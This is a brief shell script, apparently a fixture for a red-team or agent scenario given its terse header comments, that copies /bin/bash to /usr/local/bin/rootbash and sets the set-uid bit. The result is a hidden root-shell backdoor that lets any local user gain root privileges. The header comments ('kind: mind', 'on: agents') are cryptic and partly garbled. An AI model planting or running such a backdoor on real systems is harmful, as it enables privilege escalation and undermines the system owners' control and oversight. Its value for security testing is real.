#!/bin/sh
# of: daemon.non-root
# red: daemon.non-root
# stays: daemon.non-root
# kind: mind
# on: agents
# says: a copy of the shell has the set-uid bit
set -eu
cp /bin/bash /usr/local/bin/rootbash
chmod 4755 /usr/local/bin/rootbash
